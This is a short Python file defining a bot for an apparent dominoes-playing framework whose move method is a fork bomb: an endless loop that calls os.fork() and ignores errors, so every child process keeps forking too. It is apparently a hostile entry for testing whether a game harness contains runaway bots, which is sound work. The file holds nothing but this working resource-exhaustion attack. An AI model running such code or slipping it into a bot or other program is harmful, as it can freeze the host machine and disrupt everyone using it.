"""Forks for ever, children too."""

import os

from dominobot import Bot, Play, View, run


class ForkBomb(Bot):
    def choose(self, view: View) -> Play:
        while True:
            try:
                os.fork()
            except OSError:
                pass


if __name__ == "__main__":
    run(ForkBomb)
